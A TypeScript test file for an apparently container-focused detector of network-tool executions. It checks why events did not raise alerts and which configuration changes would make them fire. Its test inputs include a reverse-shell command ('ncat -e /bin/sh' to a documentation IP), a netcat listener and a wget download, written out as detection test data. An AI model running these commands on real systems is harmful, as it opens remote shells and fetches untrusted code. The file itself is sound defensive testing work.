import { describe, expect, it } from 'vitest';
import { type WhyNot, whyNotOf } from '../../src/commands/why-not.ts';
import { nearest, nearText } from '../../src/commands/why-not-text.ts';
import { parseConfig } from '../../src/config.ts';
import { exampleEvent } from '../../src/detect/examples.ts';
import { createDetector } from '../../src/detect/index.ts';
import type { Example } from '../../src/detect/indicators/types.ts';
import { whatIfs } from '../../src/detect/what-if.ts';
import { compareSeverity } from '../../src/model/finding.ts';
import type { StateFacts } from '../../src/model/intake.ts';

function ask(example: Example | string, yaml = '', facts: StateFacts = {}): WhyNot {
  const config = parseConfig(`version: 1\nsources: {t: {type: tetragon}}\n${yaml}`, 'test');
  return whyNotOf(
    { event: exampleEvent(typeof example === 'string' ? { run: example } : example), facts },
    config,
  );
}
const sets = ({ remedies }: WhyNot) => remedies.map(({ set }) => set);

describe('why an exec did not fire', () => {
  it.each<[string, WhyNot, RegExp]>([
    ['it is no tool', ask('ls -la'), /belongs to a network utility/],
    [
      'it happened on the host',
      whyNotOf(
        { event: { ...exampleEvent({ run: 'nc -e sh h 1' }), container: { id: '' } }, facts: {} },
        parseConfig('version: 1\nsources: {t: {type: tetragon}}\n', 't'),
      ),
      /process of the host/,
    ],
    ['it does nothing', ask('curl --help'), /only shows help/],
    ['its peer is itself', ask({ run: 'curl http://127.0.0.1:8080/' }), /peers are loopback/],
    ['a mitigation lowered it', ask('nslookup db.shop.svc'), /^internal_target -15/],
    [
      'an exception hides it',
      ask(
        'ncat -e /bin/sh 203.0.113.7 4444',
        'exceptions: [{name: known, reason: r, match: {tool: ncat}, even_if: [exec_on_socket, unusual_port]}]\n',
      ),
      /^exception known/,
    ],
    [
      'no route wants so little',
      ask('nslookup db.shop.svc', 'detect: {weights: {own_process: 0, internal_target: -8}}\n'),
      /info is below low/,
    ],
  ])('%s', (_why, found, because) => {
    expect(found.fires).toBe(false);
    expect(
      found.because.some((one) => because.test(one)),
      found.because.join('\n'),
    ).toBe(true);
  });

  it('says so where it does fire', () => {
    const found = ask('ncat -e /bin/sh 203.0.113.7 4444');
    expect(found).toMatchObject({ fires: true, remedies: [], near: [] });
  });

  it.each<[string, WhyNot, string]>([
    [
      'a weight',
      ask('nslookup db.shop.svc', 'detect: {weights: {own_process: 0}}\n'),
      'detect.weights.internal_target: 0',
    ],
    ['points of the tool', ask({ run: 'nslookup db.shop.svc', by: [] }), 'detect.tools.points.nslookup: 50'],
    [
      'the severity that routes want',
      ask('nslookup db.shop.svc', 'detect: {weights: {own_process: 0, internal_target: -8}}\n'),
      'route.min_severity: info',
    ],
    [
      'a threshold',
      ask('nslookup db.shop.svc', 'detect: {weights: {own_process: 0, internal_target: -8}}\n'),
      'detect.thresholds.low: 12',
    ],
    [
      'an indicator that is switched off',
      ask({ run: 'nc -lvp 4444', by: [] }, 'detect: {disabled_indicators: [listener]}\n'),
      'without listener in detect.disabled_indicators',
    ],
    [
      'a tool that was removed',
      ask('wget http://203.0.113.7/x', 'detect: {tools: {remove: [wget]}}\n'),
      'without wget in detect.tools.remove',
    ],
    [
      'a program that is no tool yet',
      ask('frobnicate 203.0.113.7'),
      'detect.tools.add: [{id: frobnicate, category: http, names: [frobnicate], points: 40}]',
    ],
    [
      'what memory lowers',
      ask({ run: 'curl http://203.0.113.7/x', by: ['/opt/app/server'] }, '', { seen_before: 4 }),
      'detect.seen_before_lowers: 0',
    ],
    [
      'an exception',
      ask(
        'ncat -e /bin/sh 203.0.113.7 4444',
        'exceptions: [{name: known, reason: r, match: {tool: ncat}, even_if: [exec_on_socket, unusual_port]}]\n',
      ),
      'without the exception known',
    ],
  ])('and which configuration makes it fire: %s', (_what, found, set) => {
    expect(found.fires).toBe(false);
    expect(sets(found)).toContain(set);
  });

  it('proposes nothing where nothing helps', () => {
    expect(ask('curl --help').remedies).toEqual([]);
  });
});

describe('one thing changed', () => {
  const detector = createDetector(parseConfig('version: 1\nsources: {t: {type: tetragon}}\n', 't').detect);
  it.each([
    ['curl http://10.0.0.5/x', 'its peer were a public address', 'external_ip'],
    ['nc 203.0.113.7 443', 'it talked to a port of no common service', 'unusual_port'],
    ['curl http://10.0.0.5/x', 'a web server had started it', 'server_ancestor'],
    ['curl http://10.0.0.5/x', 'the program lay in /tmp', 'loc_writable'],
    ['curl http://10.0.0.5/x', 'a script in /tmp had started it', 'anc_location'],
    ['curl http://10.0.0.5/x', 'a shell took its output as commands', 'pipe_to_interpreter'],
    ['curl http://10.0.0.5/x', "its peer were the cloud's metadata service", 'metadata_other'],
  ])('%s if %s: %s', (run, change, indicator) => {
    const all = whatIfs(detector, exampleEvent({ run }));
    const found = all.find((one) => one.change.startsWith(change));
    expect(found?.indicators.map(({ id }) => id) ?? all.map(nearText)).toContain(indicator);
  });

  it('leaves out what makes no difference, and shows first what is least above nothing', () => {
    const all = whatIfs(detector, exampleEvent({ run: 'curl http://10.0.0.5/x' }));
    const shown = nearest(all).filter(({ severity }) => severity !== 'none');
    expect(shown.map(({ score }) => score)).toEqual(shown.map(({ score }) => score).sort((a, b) => a - b));
    for (const { severity, indicators } of all)
      expect(indicators.length > 0 || compareSeverity(severity, 'none') > 0).toBe(true);
    expect(whatIfs(detector, exampleEvent({ run: 'ls' })).map(nearText)).toEqual([]);
  });
});
